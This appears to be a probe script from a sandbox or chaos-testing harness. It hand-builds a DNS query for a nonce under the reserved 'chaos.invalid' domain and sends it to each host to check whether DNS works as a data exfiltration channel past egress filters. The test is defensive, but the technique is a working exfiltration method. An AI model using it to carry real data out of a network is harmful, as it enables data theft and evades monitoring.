"""Resolve NONCE.chaos.invalid through the harness's DNS responder on each host address (a data
exfiltration channel that survives many egress filters)."""
import socket
import struct
from chaoslib import start, param, say, hosts

nonce = start()
name = nonce + ".chaos.invalid"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
for label in name.split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\x00" + struct.pack(">HH", 1, 1)
for host in hosts():
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.5)
        s.sendto(q, (host, int(param("DNS_PORT", "0"))))
        data, _ = s.recvfrom(512)
        say("dns answer from", host, len(data), "bytes")
    except (OSError, ValueError) as e:
        say("dns via", host, "failed:", e)
